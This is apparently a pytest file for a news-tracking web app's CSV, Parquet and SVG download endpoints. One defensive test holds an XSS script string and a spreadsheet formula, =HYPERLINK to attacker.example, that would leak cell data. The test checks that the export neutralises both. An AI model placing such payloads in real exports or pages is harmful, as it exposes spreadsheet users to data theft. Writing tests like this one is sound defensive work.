"""Downloads: every list's /api twin gives the rows the page shows as CSV or Parquet, and each chart as SVG."""

from __future__ import annotations

import io
import json
import re
import xml.etree.ElementTree as ET
from html import unescape

import pandas as pd
import pytest

from newsledger.interfaces.web.common import download

PAIR = "a=Xi+Jinping&b=Vladimir+Putin"


def _as_text(value) -> str:
    """A JSON value as the CSV writes it."""
    if value is None:
        return ""
    return json.dumps(value, ensure_ascii=False) if isinstance(value, (list, dict)) else str(value)


def test_csv_of_a_filtered_event_list_holds_the_json_rows(client):
    query = "actors=Xi+Jinping&status=planned&status=negated&sort=-date"
    rows = client.get(f"/api/timeline?{query}").json()["events"]
    got = client.get(f"/api/timeline?{query}&format=csv")
    assert got.status_code == 200
    table = pd.read_csv(io.StringIO(got.text), dtype=str, keep_default_na=False)
    assert {r["status"] for r in rows} == {"planned", "negated"}  # the filter bit: the occurred event is left out
    assert list(table.columns) == list(rows[0])
    assert table.to_dict("records") == [{k: _as_text(v) for k, v in r.items()} for r in rows]


def test_parquet_of_the_quotes_reads_back_with_pandas(client):
    rows = client.get("/api/quotes?speaker=Vladimir+Putin").json()["quotes"]
    got = client.get("/api/quotes?speaker=Vladimir+Putin&format=parquet")
    assert got.headers["content-type"] == "application/vnd.apache.parquet"
    assert got.headers["content-disposition"] == 'attachment; filename="quotes.parquet"'
    table = pd.read_parquet(io.BytesIO(got.content))
    assert table["quote_id"].tolist() == [r["quote_id"] for r in rows] and len(rows) == 1
    assert table["text"].tolist() == [r["text"] for r in rows]


@pytest.mark.parametrize("path", ["/api/timeline", "/api/quotes", "/api/forecasts", "/api/actors", "/api/same-events",
                                  "/api/disagreements", "/api/map", "/api/network", f"/api/dyad?{PAIR}"])
def test_every_list_twin_downloads_csv_and_parquet_and_refuses_an_unknown_format(client, path):
    joiner = "&" if "?" in path else "?"
    for fmt in ("csv", "parquet"):
        got = client.get(f"{path}{joiner}format={fmt}")
        assert got.status_code == 200 and got.headers["content-disposition"].startswith("attachment; filename=")
    refused = client.get(f"{path}{joiner}format=xlsx")
    assert refused.status_code == 400
    message = refused.json()["error"]
    assert message.startswith("format:") and "\n" not in message


def test_article_text_in_a_csv_is_an_attachment_and_never_a_formula(client):
    got = client.get("/api/actors?format=csv")
    assert got.headers["content-type"] == "text/csv; charset=utf-8"
    assert got.headers["content-disposition"] == 'attachment; filename="actors.csv"'
    assert got.headers["x-content-type-options"] == "nosniff"  # no browser reads it as a page
    assert '<script>alert("pwned")</script>' in pd.read_csv(io.StringIO(got.text))["name"].str.cat()  # kept as text

    formula = {"evidence": '=HYPERLINK("http://attacker.example/?"&A1,"click")', "change": -2.5, "cue": "@SUM(A1:A2)"}
    csv = pd.read_csv(io.BytesIO(download(None, [formula], "csv", "x").body), dtype=str)
    assert csv.loc[0, "evidence"] == "'" + formula["evidence"] and csv.loc[0, "cue"] == "'@SUM(A1:A2)"
    assert csv.loc[0, "change"] == "-2.5"  # a number is no formula
    parquet = pd.read_parquet(io.BytesIO(download(None, [formula], "parquet", "x").body))
    assert parquet.loc[0, "evidence"] == formula["evidence"]  # typed cells are never run: kept as they are


def test_list_pages_link_their_downloads_with_the_page_filters(client):
    page = client.get("/timeline?actors=Xi+Jinping&status=planned&quad=1")
    links = [unescape(h) for h in re.findall(r'href="(/api/timeline\?[^"]*format=csv[^"]*)"', page.text)]
    assert len(links) == 1 and "status=planned" in links[0] and "quad=1" in links[0] and "actors=Xi+Jinping" in links[0]
    table = pd.read_csv(io.StringIO(client.get(links[0]).text))
    assert table["status"].tolist() == ["planned"]
    for path in ("/quotes?speaker=Putin", "/forecasts?state=open", "/same-events", "/disagreements", "/actors?q=Xi",
                 f"/dyad?{PAIR}", "/?q=Moscow", "/map", "/network"):
        html = client.get(path).text
        assert "format=csv" in html and "format=parquet" in html, path


@pytest.mark.parametrize("chart", ["dyad", "map", "network"])
def test_each_chart_downloads_as_svg(client, chart):
    query = PAIR if chart == "dyad" else "actors=Xi+Jinping"
    page = client.get(f"/{chart}?{query}").text
    link = unescape(re.search(rf'href="(/api/{chart}\?[^"]*format=svg[^"]*)"', page).group(1))
    got = client.get(link)
    assert got.headers["content-type"].startswith("image/svg+xml")
    assert got.headers["content-disposition"] == f'attachment; filename="{chart}.svg"'
    assert ET.fromstring(got.content).tag == "{http://www.w3.org/2000/svg}svg"
